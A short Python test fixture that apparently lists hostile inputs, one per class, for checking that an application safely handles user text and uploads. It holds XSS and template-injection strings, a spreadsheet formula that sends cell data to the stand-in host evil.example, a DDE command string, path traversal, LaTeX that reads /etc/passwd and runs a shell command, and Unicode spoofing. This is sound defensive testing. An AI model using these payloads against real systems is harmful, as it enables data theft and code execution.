"""What an attacker, or a careless colleague, types and uploads: a text of each class, for every place that takes it."""

CANARY = "window.__canary=1"
MARKUP = (
    f'<img src=x onerror="{CANARY}"><script>{CANARY}</script> **b** $x^2$ :red[r] [l](javascript:{CANARY}) <b>bold</b>'
)

HOSTILE = {
    "markup": MARKUP,
    "script": f"javascript:{CANARY}//'\"`;{CANARY};</script></style></svg>{{{{7*7}}}}${{7*7}}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "+cmd|' /C calc'!A0",
    "traversal": "../../../../../../tmp/moe-canary",
    "latex": r"\input{/etc/passwd}\immediate\write18{touch canary}$\def\x{}%&#_^~{}",
    "oversize": "long " * 5_000,
    "malformed": "half \ud800 of a letter",
    "control": "a\x00b\x1b[31mc\x07\x08\r\nd\u2028e",
    "bidirectional": "\u202egpj.exe\u202c \u2066abc\u2069 \u200b\ufeff\u0301\u0301\u0301",
}
